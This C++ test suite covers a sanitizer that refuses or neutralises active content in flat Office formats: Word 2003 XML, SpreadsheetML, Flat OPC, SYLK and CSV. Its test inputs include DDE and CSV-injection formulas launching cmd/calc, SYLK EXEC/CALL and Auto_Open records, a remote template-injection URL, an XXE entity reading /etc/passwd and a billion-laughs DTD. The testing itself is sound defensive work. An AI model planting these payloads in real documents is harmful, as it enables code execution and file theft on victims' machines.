// office_cdr's flat formats (flat_formats.h): Word 2003 XML, SpreadsheetML
// 2003 and Flat OPC are refused when they hold anything active and kept
// byte for byte otherwise; SYLK with macros or program-starting formulas is
// refused; CSV cells that would start a program become text with a `'`.
// The corpus samples get the verdict each deserves, hand-made samples cover
// each element, an outside judge (test/tools/flat_judge.py, lxml + csv)
// reads what we deliver and must find nothing active in it, and hostile
// inputs (billion laughs, 100 MB of nesting, a 50 MB CSV line) end in a
// finding within a second.
#include <catch2/catch_test_macros.hpp>

#include <chrono>
#include <filesystem>
#include <map>
#include <sstream>

#include "core/file_job.h"
#include "sanitizers/builtin.h"
#include "sanitizers/office_cdr/flat_formats.h"
#include "sanitizers/office_cdr/format.h"
#include "test/common/time_budget.h"
#include "test/common/cli_run.h"
#include "test/common/corpus.h"

namespace fs = std::filesystem;
using namespace mugai;
using namespace mugai::sanitizers::office_cdr;

namespace {

struct Run {
  Result result;
  double seconds;
};

Run runFlat(const std::string& bytes, Format expected, const std::string& extension) {
  REQUIRE(detectFormat(bytes, extension) == expected);
  Limits limits;
  ScanContext ctx(limits, std::chrono::steady_clock::now() + std::chrono::seconds(30));
  const auto t0 = std::chrono::steady_clock::now();
  Result r = cleanFlat(expected, bytes, Options{}, ctx);
  const double s = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  return {std::move(r), s};
}

Result xml(const std::string& bytes) { return runFlat(bytes, Format::FlatXml, "xml").result; }
Result csv(const std::string& bytes) { return runFlat(bytes, Format::Csv, "csv").result; }
Result slk(const std::string& bytes) { return runFlat(bytes, Format::Sylk, "slk").result; }

std::string firstCode(const Result& r) { return r.removals.empty() ? "" : r.removals.front().code; }

void requireRefused(const Result& r, const std::string& code = "office.flat_active") {
  INFO("removals: " << r.removals.size() << (r.removals.empty() ? "" : " first: " + r.removals.front().detail));
  REQUIRE(r.outcome == Outcome::Refuse);
  REQUIRE(firstCode(r) == code);
  for (const Removal& x : r.removals) {
    CHECK(!x.detail.empty());
    CHECK(!x.detailJa.empty());
  }
}

// The outside judge: file name -> findings ("-" = none).
std::map<std::string, std::string> judge(const fs::path& dir) {
  auto run = test::runCommand("/usr/bin/python3 " + std::string(MUGAI_SOURCE_DIR) + "/test/tools/flat_judge.py " +
                              dir.string());
  REQUIRE(run.code == 0);
  std::map<std::string, std::string> out;
  std::istringstream lines(run.out);
  for (std::string line; std::getline(lines, line);) {
    const auto tab = line.find('\t');
    REQUIRE(tab != std::string::npos);
    out[fs::path(line.substr(0, tab)).filename().string()] = line.substr(tab + 1);
  }
  return out;
}

std::string wordDoc(const std::string& body, const std::string& docExtra = "") {
  return "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
         "<?mso-application progid=\"Word.Document\"?>\n"
         "<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" "
         "xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:v=\"urn:schemas-microsoft-com:vml\">" +
         docExtra + "<w:body>" + body + "</w:body></w:wordDocument>\n";
}

std::string para(const std::string& runs) { return "<w:p>" + runs + "</w:p>"; }
std::string textRun(const std::string& t) { return "<w:r><w:t>" + t + "</w:t></w:r>"; }
std::string fieldRuns(const std::vector<std::string>& instrPieces) {
  std::string s = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
  for (const auto& p : instrPieces) s += "<w:r><w:instrText>" + p + "</w:instrText></w:r>";
  return s + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>" + textRun("result") +
         "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
}

std::string spreadsheet(const std::string& cellAttrs) {
  return "<?xml version=\"1.0\"?>\n<?mso-application progid=\"Excel.Sheet\"?>\n"
         "<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" "
         "xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">"
         "<Worksheet ss:Name=\"S\"><Table><Row><Cell " +
         cellAttrs + "><Data ss:Type=\"Number\">3</Data></Cell></Row></Table></Worksheet></Workbook>\n";
}

std::string flatOpc(const std::string& parts) {
  return "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<?mso-application progid=\"Word.Document\"?>\n"
         "<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">" +
         parts + "</pkg:package>";
}

std::string relsPart(const std::string& rels) {
  return "<pkg:part pkg:name=\"/word/_rels/settings.xml.rels\" "
         "pkg:contentType=\"application/vnd.openxmlformats-package.relationships+xml\"><pkg:xmlData>"
         "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
         rels + "</Relationships></pkg:xmlData></pkg:part>";
}

// base64 of the first bytes of an OLE2 compound file and of a PNG.
const std::string kOleBase64 = "0M8R4KGxGuEAAAAAAAAAAAAAAAAAAAAAPgADAP7/CQAGAAAAAAAAAAAAAAAB";
const std::string kPngBase64 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

fs::path oletools() { return test::corpora() / "oletools" / "test-data"; }

// The .xml inside a (passworded or plain) zip of the corpus.
std::string unzipped(const fs::path& zip, const fs::path& dir) {
  auto run = test::runCommand("unzip -o -qq -P infected-test -d '" + dir.string() + "' '" + zip.string() + "'");
  REQUIRE(run.code == 0);
  std::string name = zip.filename().string();
  name.resize(name.size() - 4);  // drop ".zip"
  return test::readFile(dir / name);
}

}  // namespace

TEST_CASE("Every flat Office sample of the corpus gets the verdict it deserves", "[office][flat]") {
  const fs::path t = oletools();
  const fs::path tmp = test::freshTempDir("flat-corpus");
  struct Case {
    std::string name;
    std::string bytes;
    Format format;
    std::string ext;
    Outcome outcome;
    std::string code;
  };
  std::vector<Case> cases;
  for (const char* d : {"ooxml", "msodde"})
    for (const char* f : {"harmless-clean-2003.xml", "harmless-clean.xml"})
      cases.push_back({std::string(d) + "-" + f, test::readFile(t / d / f), Format::FlatXml, "xml", Outcome::Clean, ""});
  for (const char* d : {"ooxml", "msodde"}) {
    cases.push_back({std::string(d) + "-dde-in-excel2003.xml", test::readFile(t / d / "dde-in-excel2003.xml"),
                     Format::FlatXml, "xml", Outcome::Refuse, "office.flat_active"});
    cases.push_back({std::string(d) + "-dde-in-word2003.xml", unzipped(t / d / "dde-in-word2003.xml.zip", tmp / d),
                     Format::FlatXml, "xml", Outcome::Refuse, "office.flat_active"});
  }
  cases.push_back({"dde-in-word2007.xml", unzipped(t / "msodde" / "dde-in-word2007.xml.zip", tmp / "msodde"),
                   Format::FlatXml, "xml", Outcome::Refuse, "office.flat_active"});
  for (const char* f : {"embedded-simple-2007.xml", "embedded-simple-2007-as2003.xml"})
    cases.push_back({f, test::readFile(t / "oleobj" / f), Format::FlatXml, "xml", Outcome::Refuse, "office.flat_active"});
  cases.push_back({"excel4_sample_macro.slk", test::readFile(t / "excel4-macros" / "excel4_sample_macro.slk"),
                   Format::Sylk, "slk", Outcome::Refuse, "office.flat_active"});
  cases.push_back({"dde-in-csv.csv", test::readFile(t / "msodde" / "dde-in-csv.csv"), Format::Csv, "csv",
                   Outcome::Cleaned, "office.formula_neutralised"});

  const fs::path inputs = tmp / "in", delivered = tmp / "out";
  for (const Case& c : cases) {
    INFO(c.name);
    const Run run = runFlat(c.bytes, c.format, c.ext);
    REQUIRE(run.result.outcome == c.outcome);
    CHECK(firstCode(run.result) == c.code);
    CHECK(run.seconds < mugai::test::timeBound(1.0));
    test::writeFile(inputs / c.name, c.bytes);
    if (c.outcome == Outcome::Clean) test::writeFile(delivered / c.name, c.bytes);  // byte for byte
    if (c.outcome == Outcome::Cleaned) test::writeFile(delivered / c.name, run.result.bytes);
  }
  // The judge agrees on the inputs (hostile ones hold something, clean ones
  // nothing) and finds nothing in what we deliver.
  const auto judgedIn = judge(inputs), judgedOut = judge(delivered);
  for (const Case& c : cases) {
    INFO(c.name << " judged " << judgedIn.at(c.name));
    CHECK((judgedIn.at(c.name) == "-") == (c.outcome == Outcome::Clean));
    if (c.outcome != Outcome::Refuse) CHECK(judgedOut.at(c.name) == "-");
  }
  REQUIRE(judgedOut.size() == 5);
  fs::remove_all(tmp);
}

TEST_CASE("The DDE CSV of the corpus comes back as text with nothing else changed", "[office][flat]") {
  const std::string in = test::readFile(oletools() / "msodde" / "dde-in-csv.csv");
  const Result r = csv(in);
  REQUIRE(r.outcome == Outcome::Cleaned);
  CHECK(r.bytes == "'" + in);
  REQUIRE(r.removals.size() == 1);
  CHECK(r.removals[0].where == "R1C1");
  CHECK(r.removals[0].detail.find("DDE") != std::string::npos);
}

TEST_CASE("The DDE Word 2003 XML of the corpus is refused for its DDEAUTO field", "[office][flat]") {
  const fs::path tmp = test::freshTempDir("flat-dde-word");
  const Result r = xml(unzipped(oletools() / "msodde" / "dde-in-word2003.xml.zip", tmp));
  requireRefused(r);
  REQUIRE(r.removals.size() == 1);  // its w:attachedTemplate w:val="" is no template
  CHECK(r.removals[0].detail.find("DDEAUTO") != std::string::npos);
  fs::remove_all(tmp);
}

TEST_CASE("Word 2003 XML: each active element refuses the document", "[office][flat]") {
  SECTION("VBA in w:docSuppData (editdata.mso): one removal per element") {
    const Result r = xml(wordDoc(para(textRun("hi")), "<w:docSuppData><w:binData w:name=\"editdata.mso\">" + kOleBase64 +
                                                          "</w:binData></w:docSuppData>"));
    requireRefused(r);
    CHECK(r.removals.size() == 2);
    CHECK(r.removals[0].where == "w:docSuppData");
  }
  SECTION("an OLE blob named like a picture") {
    requireRefused(xml(wordDoc(para("<w:r><w:pict><w:binData w:name=\"wordml://1.png\">" + kOleBase64 +
                                    "</w:binData></w:pict></w:r>"))));
  }
  SECTION("o:OLEObject") {
    requireRefused(xml(wordDoc(para("<w:r><w:pict><o:OLEObject Type=\"Embed\" ProgID=\"Package\"/></w:pict></w:r>"))));
  }
  SECTION("w:control (ActiveX)") { requireRefused(xml(wordDoc(para("<w:r><w:control w:name=\"X\"/></w:r>")))); }
  SECTION("w:attachedTemplate with a path") {
    for (const char* val : {"http://evil/t.dot", "\\\\server\\share\\t.dot", "C:\\t\\t.dot"}) {
      INFO(val);
      requireRefused(xml(wordDoc(para(textRun("x")), "<w:docPr><w:attachedTemplate w:val=\"" + std::string(val) +
                                                         "\"/></w:docPr>")));
    }
  }
  SECTION("w:fldSimple DDEAUTO / INCLUDETEXT / IMPORT / LINK") {
    for (const char* instr : {" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ", "INCLUDETEXT \"http://x/a\"",
                              "IMPORT \\\\server\\pic.png", "INCLUDEPICTURE \"http://x/p.png\" \\d", "dde x y",
                              "LINK Excel.Sheet.8 \"C:\\\\a.xls\" \"\" \\a"}) {
      INFO(instr);
      std::string attr;
      for (const char* c = instr; *c; ++c) attr += *c == '"' ? std::string("&quot;") : std::string(1, *c);
      requireRefused(xml(wordDoc(para("<w:fldSimple w:instr=\"" + attr + "\">" + textRun("r") +
                                      "</w:fldSimple>"))));
    }
  }
  SECTION("w:instrText split over runs (DD + EAUTO)") {
    requireRefused(xml(wordDoc(para(fieldRuns({"DD", "EAUTO c:\\cmd.exe \"/k calc\""})))));
  }
  SECTION("a field whose name is built by a nested QUOTE field") {
    const std::string nested = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + fieldRuns({"QUOTE 68 68 69"}) +
                               "<w:r><w:instrText> c:\\cmd.exe</w:instrText></w:r>"
                               "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    requireRefused(xml(wordDoc(para(nested))));
    // { DD{QUOTE 69} c:\cmd.exe }: the name is completed by the nested result.
    const std::string split = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>" +
                              fieldRuns({"QUOTE 69"}) + "<w:r><w:instrText> c:\\cmd.exe</w:instrText></w:r>"
                              "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    requireRefused(xml(wordDoc(para(split))));
  }
  SECTION("an instrText outside a field is judged on its own") {
    requireRefused(xml(wordDoc(para("<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>"))));
  }
}

TEST_CASE("Word 2003 XML without active content is kept as it came", "[office][flat]") {
  SECTION("text, a HYPERLINK field, a PAGE field, a real picture") {
    const std::string doc = wordDoc(para(textRun("こんにちは")) + para(fieldRuns({" HYPERLINK \"https://example.jp\" "})) +
                                    para("<w:fldSimple w:instr=\" PAGE \">" + textRun("1") + "</w:fldSimple>") +
                                    para("<w:r><w:pict><w:binData w:name=\"wordml://02000001.png\">" + kPngBase64 +
                                         "</w:binData><v:shape><v:imagedata src=\"wordml://02000001.png\"/></v:shape>"
                                         "</w:pict></w:r>"));
    const Result r = xml(doc);
    REQUIRE(r.outcome == Outcome::Clean);
    CHECK(r.removals.empty());
  }
  SECTION("an element named binData outside the Office namespaces is inert") {
    CHECK(xml(wordDoc(para("<x:binData xmlns:x=\"urn:other\">" + kOleBase64 + "</x:binData>"))).outcome == Outcome::Clean);
  }
  SECTION("IF and formula fields with nested fields") {
    const std::string ifField = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>" +
                                fieldRuns({"MERGEFIELD x"}) + "<w:r><w:instrText> = 1 \"a\" \"b\"</w:instrText></w:r>"
                                "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    const std::string formula = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>=</w:instrText></w:r>" +
                                fieldRuns({"PAGE"}) + "<w:r><w:instrText>+1</w:instrText></w:r>"
                                "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    CHECK(xml(wordDoc(para(ifField) + para(formula))).outcome == Outcome::Clean);
  }
  SECTION("w:attachedTemplate with no template or a bare Normal.dotm loads nothing") {
    CHECK(xml(wordDoc(para(textRun("x")), "<w:docPr><w:attachedTemplate w:val=\"\"/></w:docPr>")).outcome ==
          Outcome::Clean);
    CHECK(xml(wordDoc(para(textRun("x")), "<w:docPr><w:attachedTemplate w:val=\"Normal.dotm\"/></w:docPr>")).outcome ==
          Outcome::Clean);
  }
  SECTION("the word DDE in the text is text") {
    CHECK(xml(wordDoc(para(textRun("DDEAUTO cmd|calc")))).outcome == Outcome::Clean);
  }
}

TEST_CASE("Flat OPC: macro, OLE and external parts refuse the package; hyperlinks do not", "[office][flat]") {
  SECTION("vbaProject part") {
    requireRefused(xml(flatOpc("<pkg:part pkg:name=\"/word/vbaProject.bin\" "
                               "pkg:contentType=\"application/vnd.ms-office.vbaProject\"><pkg:binaryData>" +
                               kOleBase64 + "</pkg:binaryData></pkg:part>")));
  }
  SECTION("activeX part") {
    requireRefused(xml(flatOpc("<pkg:part pkg:name=\"/word/activeX/activeX1.xml\" "
                               "pkg:contentType=\"application/vnd.ms-office.activeX+xml\"><pkg:xmlData><a/></pkg:xmlData>"
                               "</pkg:part>")));
  }
  SECTION("external attachedTemplate relationship (template injection)") {
    requireRefused(xml(flatOpc(relsPart(
        "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
        "attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"))));
  }
  SECTION("altChunk relationship") {
    requireRefused(xml(flatOpc(relsPart(
        "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
        "aFChunk\" Target=\"afchunk.rtf\"/>"))));
  }
  SECTION("external hyperlink relationship is kept") {
    CHECK(xml(flatOpc(relsPart("<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
                               "2006/relationships/hyperlink\" Target=\"https://example.jp\" TargetMode=\"External\"/>")))
              .outcome == Outcome::Clean);
  }
}

TEST_CASE("SpreadsheetML 2003: DDE and program-starting formulas refuse the workbook", "[office][flat]") {
  requireRefused(xml(spreadsheet("ss:Formula=\"=cmd|' /C calc'!A0\"")));
  requireRefused(xml(spreadsheet("ss:Formula=\"=WEBSERVICE(&quot;http://x/&quot;&amp;A1)\"")));
  requireRefused(xml(spreadsheet("ss:Formula=\"=_xlfn.WEBSERVICE(&quot;http://x/&quot;)\"")));
  CHECK(xml(spreadsheet("ss:Formula=\"=SUM(R1C1:R2C1)\"")).outcome == Outcome::Clean);
  CHECK(xml(spreadsheet("ss:Formula=\"=&quot;a|b&quot;\"")).outcome == Outcome::Clean);  // pipe inside a string
  CHECK(xml(spreadsheet("ss:Formula=\"=HYPERLINK(&quot;https://example.jp&quot;)\"")).outcome == Outcome::Clean);
}

TEST_CASE("Office XML with a DTD or broken XML is refused", "[office][flat]") {
  SECTION("a harmless DOCTYPE") {
    std::string doc = wordDoc(para(textRun("x")));
    doc.insert(doc.find("<w:wordDocument"), "<!DOCTYPE w:wordDocument>\n");
    requireRefused(xml(doc));
  }
  SECTION("XXE") {
    std::string doc = wordDoc(para(textRun("&xxe;")));
    doc.insert(doc.find("<w:wordDocument"), "<!DOCTYPE d [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n");
    requireRefused(xml(doc));
  }
  SECTION("not well-formed") {
    std::string doc = wordDoc(para(textRun("x")));
    doc.resize(doc.size() - 10);
    requireRefused(xml(doc), "office.unreadable");
  }
}

TEST_CASE("Hostile Office XML ends in a finding within a second", "[office][flat][timed]") {
  SECTION("billion laughs") {
    std::string dtd = "<!DOCTYPE w:wordDocument [<!ENTITY l0 \"lol\">";
    for (int i = 1; i < 10; ++i)
      dtd += "<!ENTITY l" + std::to_string(i) + " \"" + [&] {
        std::string s;
        for (int k = 0; k < 10; ++k) s += "&l" + std::to_string(i - 1) + ";";
        return s;
      }() + "\">";
    dtd += "]>\n";
    std::string doc = wordDoc(para(textRun("&l9;")));
    doc.insert(doc.find("<w:wordDocument"), dtd);
    const Run run = runFlat(doc, Format::FlatXml, "xml");
    requireRefused(run.result);
    CHECK(run.seconds < mugai::test::timeBound(1.0));
  }
  SECTION("100 MB of nested elements") {
    std::string doc = wordDoc("");
    const std::size_t at = doc.find("<w:body>") + 8;
    std::string nest;
    nest.reserve(100u << 20);
    while (nest.size() < (100u << 20)) nest += "<w:p>";
    doc.insert(at, nest);
    const Run run = runFlat(doc, Format::FlatXml, "xml");
    requireRefused(run.result, "office.unreadable");
    CHECK(run.seconds < mugai::test::timeBound(1.0));
  }
  SECTION("20 MB of flat paragraphs is read to its end") {
    std::string body;
    while (body.size() < (20u << 20)) body += para(textRun("段落のテキスト"));
    const Run run = runFlat(wordDoc(body + para(fieldRuns({"DDEAUTO cmd"}))), Format::FlatXml, "xml");
    requireRefused(run.result);
    CHECK(run.seconds < mugai::test::timeBound(1.0));
  }
}

TEST_CASE("SYLK: macros and program-starting formulas refuse it, plain values keep it", "[office][flat]") {
  const std::string id = "ID;PWXL;N;E\r\n";
  SECTION("the corpus Excel 4 macro names the macro sheet and Auto_Open") {
    const Result r = slk(test::readFile(oletools() / "excel4-macros" / "excel4_sample_macro.slk"));
    requireRefused(r);
    REQUIRE(r.removals.size() >= 2);
    bool macroSheet = false, autoOpen = false;
    for (const auto& x : r.removals) {
      macroSheet |= x.detail.find("O;E") != std::string::npos;
      autoOpen |= x.detail.find("Auto_Open") != std::string::npos;
    }
    CHECK(macroSheet);
    CHECK(autoOpen);
  }
  SECTION("values, text with ;; and a plain formula") {
    CHECK(slk(id + "C;Y1;X1;K1\r\nC;Y1;X2;K\"a;;b\"\r\nC;Y2;X1;K3;ESUM(R1C1:R1C2)\r\nE\r\n").outcome == Outcome::Clean);
  }
  SECTION("each dangerous record") {
    for (const std::string rec : {"C;Y1;X1;K0;Ecmd|' /C calc'!A0", "C;Y1;X1;K0;EEXEC(\"calc.exe\")",
                                  "C;Y1;X1;K0;ECALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
                                  "NN;NAuto_Open;ER1C1", "NN;Nmac;ER1C1;KOut", "O;L;E;D;V0", "NE;Fother.xls;R1;EA1",
                                  "F;Y1;X1;ERUN(\"x\")"}) {
      INFO(rec);
      requireRefused(slk(id + rec + "\r\nE\r\n"));
    }
  }
  SECTION("a SYLK read as CSV when Excel rejects it") {
    requireRefused(slk(id + "=cmd|' /C calc'!A0\r\n"));
  }
}

TEST_CASE("CSV: cells that start a program become text, everything else stays", "[office][flat]") {
  SECTION("harmless cells are not touched") {
    for (const std::string c : {"a,b,c\r\n1,2,3\r\n", "=1+2,-5,+81-3-1234-5678,@user\n", "=SUM(A1:A3),\"=\"\"a|b\"\"\"\n",
                                "メモ,text with | pipe\n", ""}) {
      INFO(c);
      CHECK(csv(c).outcome == Outcome::Clean);
    }
  }
  SECTION("unquoted, quoted, spaced, semicolon and tab separated") {
    const std::vector<std::pair<std::string, std::string>> cases = {
        {"a,=cmd|' /C calc'!A0,b\r\n", "a,'=cmd|' /C calc'!A0,b\r\n"},
        {"a,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\"\n", "a,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\"\n"},
        {"x, =cmd|x!A0\n", "x,' =cmd|x!A0\n"},
        // ; and tab both split here: each reading gets its quote.
        {"x;\t@SUM(1+1)*cmd|' /C calc'!A0\n", "x;'\t'@SUM(1+1)*cmd|' /C calc'!A0\n"},
        {"x\t-2+3+cmd|' /C calc'!A0\ty\n", "x\t'-2+3+cmd|' /C calc'!A0\ty\n"},
        {"+WEBSERVICE(\"http://x\")", "'+WEBSERVICE(\"http://x\")"},
        {"\"\r\n =cmd|x!A0\"", "\"'\r\n =cmd|x!A0\""},
        {"=IMPORTXML(A1,\"//a\")\r=_xlfn.CALL(\"k\")", "'=IMPORTXML(A1,\"//a\")\r'=_xlfn.CALL(\"k\")"},
    };
    for (const auto& [in, out] : cases) {
      INFO(in);
      const Result r = csv(in);
      REQUIRE(r.outcome == Outcome::Cleaned);
      CHECK(r.bytes == out);
      REQUIRE(!r.removals.empty());
      CHECK(r.removals[0].code == "office.formula_neutralised");
    }
  }
  SECTION("Shift_JIS bytes are kept as they came; only the quote is inserted") {
    // 名前,金額 / 山田,=cmd|' /C calc'!A0 / ポイント,-5 in Shift_JIS; ポ is 0x83 0x7C.
    const std::string in = "\x96\xBC\x91O,\x8B\xE0\x8Az\r\n\x8ER\x93" "c,=cmd|' /C calc'!A0\r\n\x83|\x83" "C\x83\x93\x83g,-5\r\n";
    const Result r = csv(in);
    REQUIRE(r.outcome == Outcome::Cleaned);
    const std::size_t at = in.find("=cmd");
    CHECK(r.bytes == in.substr(0, at) + "'" + in.substr(at));
    REQUIRE(r.removals.size() == 1);
    CHECK(r.removals[0].where == "R2C2");
  }
  SECTION("a formula cell holding ポ (0x83 0x7C, a pipe byte) is made text: fail closed") {
    const std::string in = "=\"\x83|\"&A1&\x83|\n";
    CHECK(csv(in).outcome == Outcome::Cleaned);
  }
  SECTION("removals are listed up to 20, then counted") {
    std::string in;
    for (int i = 0; i < 100; ++i) in += "=cmd|' /C calc'!A0\n";
    const Result r = csv(in);
    REQUIRE(r.outcome == Outcome::Cleaned);
    CHECK(r.removals.size() == 21);
    CHECK(r.removals.back().detail.find("80 more") != std::string::npos);
  }
  SECTION("UTF-16 is refused") {
    requireRefused(csv(std::string("\xFF\xFE=\0c\0m\0d\0|\0", 12)), "office.unreadable");
  }
}

TEST_CASE("CSV delivered by us holds nothing the judge calls active, Shift_JIS included", "[office][flat]") {
  const fs::path dir = test::freshTempDir("flat-csv");
  const std::vector<std::string> inputs = {
      "a,=cmd|' /C calc'!A0,b\r\n\"=HYPERLINK(\"\"http://x\"\")\";x\r\n",
      "\x8ER\x93" "c, =cmd|' /C calc'!A0\r\n\x96\xBC\x91O;@SUM(1)*cmd|x!A\r\n",
      "x\t-2+3+cmd|' /C calc'!A0\r\n\"a\nb\",\"=cmd|x!A0\"\n",
  };
  for (std::size_t i = 0; i < inputs.size(); ++i) {
    const Result r = csv(inputs[i]);
    REQUIRE(r.outcome == Outcome::Cleaned);
    test::writeFile(dir / ("in" + std::to_string(i) + ".csv"), inputs[i]);
    test::writeFile(dir / ("out" + std::to_string(i) + ".csv"), r.bytes);
  }
  const auto judged = judge(dir);
  for (std::size_t i = 0; i < inputs.size(); ++i) {
    CHECK(judged.at("in" + std::to_string(i) + ".csv") != "-");
    CHECK(judged.at("out" + std::to_string(i) + ".csv") == "-");
  }
  fs::remove_all(dir);
}

TEST_CASE("A 50 MB CSV line is judged within a second", "[office][flat][timed]") {
  SECTION("one dangerous cell at the end of 50 MB") {
    std::string in = "=" + std::string(50u << 20, 'A') + "|x!A0\n";
    const Run run = runFlat(in, Format::Csv, "csv");
    REQUIRE(run.result.outcome == Outcome::Cleaned);
    CHECK(run.result.bytes.size() == in.size() + 1);
    CHECK(run.seconds < mugai::test::timeBound(1.0));
  }
  SECTION("50 MB of short cells on one line") {
    std::string in;
    while (in.size() < (50u << 20)) in += "12,=A1,\"x\",";
    in += "=cmd|x!A0";
    const Run run = runFlat(in, Format::Csv, "csv");
    REQUIRE(run.result.outcome == Outcome::Cleaned);
    CHECK(run.result.removals.size() == 1);
    CHECK(run.seconds < mugai::test::timeBound(1.0));
  }
  SECTION("an unterminated quoted field of 50 MB") {
    std::string in = "\"=" + std::string(50u << 20, 'x') + "|";
    const Run run = runFlat(in, Format::Csv, "csv");
    REQUIRE(run.result.outcome == Outcome::Cleaned);
    CHECK(run.seconds < mugai::test::timeBound(1.0));
  }
}

TEST_CASE("UTF-16 Office XML is recognised and judged like UTF-8", "[office][flat]") {
  auto utf16le = [](const std::string& ascii) {
    std::string s = "\xFF\xFE";
    for (char c : ascii) s += std::string{c, '\0'};
    return s;
  };
  std::string clean = wordDoc(para(textRun("x")));
  clean.replace(clean.find("UTF-8"), 5, "UTF-16");
  const std::string active = [&] {
    std::string d = wordDoc(para(fieldRuns({"DDEAUTO c:\\cmd.exe"})));
    d.replace(d.find("UTF-8"), 5, "UTF-16");
    return d;
  }();
  CHECK(xml(utf16le(clean)).outcome == Outcome::Clean);
  requireRefused(xml(utf16le(active)));
  std::string withDoctype = utf16le(clean);
  const std::string dt = utf16le("<!DOCTYPE w:wordDocument>").substr(2);
  withDoctype.insert(utf16le(clean).find(utf16le("<w:wordDocument").substr(2)), dt);
  requireRefused(xml(withDoctype));
}

TEST_CASE("Through the office_cdr stage: CSV delivered neutralised, SYLK macro removed, clean XML kept", "[office][flat]") {
  static const Config config = parseConfig("[pipeline]\nstages = [\"office_cdr\"]\n", "office_cdr_flat_test");
  static const Pipeline pipeline = sanitizers::builtinRegistry().build(config);
  auto codes = [](const FileOutcome& o) {
    std::string all;
    for (const auto& f : o.findings) all += f.code + " ";
    return all;
  };
  SECTION("CSV") {
    const std::string in = test::readFile(oletools() / "msodde" / "dde-in-csv.csv");
    const FileOutcome o = processFile(in, "dde-in-csv.csv", config, pipeline, "0");
    CHECK(o.verdict == Verdict::Changed);
    REQUIRE(!o.removed);
    CHECK(o.output == "'" + in);
    CHECK(codes(o).find("office.formula_neutralised") != std::string::npos);
    CHECK(o.notice.find("文字列にしました") != std::string::npos);
  }
  SECTION("SYLK") {
    const FileOutcome o = processFile(test::readFile(oletools() / "excel4-macros" / "excel4_sample_macro.slk"),
                                      "excel4_sample_macro.slk", config, pipeline, "0");
    CHECK(o.removed);
    CHECK(codes(o).find("office.flat_active") != std::string::npos);
  }
  SECTION("clean Word 2003 XML") {
    const std::string in = test::readFile(oletools() / "msodde" / "harmless-clean-2003.xml");
    const FileOutcome o = processFile(in, "harmless-clean-2003.xml", config, pipeline, "0");
    CHECK(o.verdict == Verdict::Unchanged);
    CHECK(o.output == in);
  }
}

TEST_CASE("Mangled flat samples never crash and always get a verdict", "[office][flat]") {
  const fs::path t = oletools();
  const std::vector<std::pair<std::string, Format>> seeds = {
      {test::readFile(t / "msodde" / "harmless-clean-2003.xml"), Format::FlatXml},
      {test::readFile(t / "oleobj" / "embedded-simple-2007.xml"), Format::FlatXml},
      {test::readFile(t / "msodde" / "dde-in-excel2003.xml"), Format::FlatXml},
      {test::readFile(t / "excel4-macros" / "excel4_sample_macro.slk"), Format::Sylk},
      {"a,\"=cmd|x\"\"!A0\",b\r\n\"unterminated,=HYPERLINK(\n", Format::Csv},
  };
  std::uint32_t state = 12345;
  auto next = [&] { return state = state * 1664525u + 1013904223u; };
  for (const auto& [seed, format] : seeds) {
    for (int i = 0; i < 300; ++i) {
      std::string m = seed;
      const int edits = 1 + static_cast<int>(next() % 8);
      for (int e = 0; e < edits && !m.empty(); ++e) {
        const std::size_t at = next() % m.size();
        switch (next() % 4) {
          case 0: m[at] = static_cast<char>(next()); break;
          case 1: m.resize(at); break;
          case 2: m.insert(at, 1, "<>\"&;|=\r\n\0"[next() % 10]); break;
          default: m.erase(at, next() % 64); break;
        }
      }
      Limits limits;
      ScanContext ctx(limits, std::chrono::steady_clock::now() + std::chrono::seconds(10));
      const Result r = cleanFlat(format, m, Options{}, ctx);
      if (r.outcome == Outcome::Refuse) REQUIRE(!r.removals.empty());
      if (r.outcome == Outcome::Cleaned) REQUIRE(!r.removals.empty());
    }
  }
}
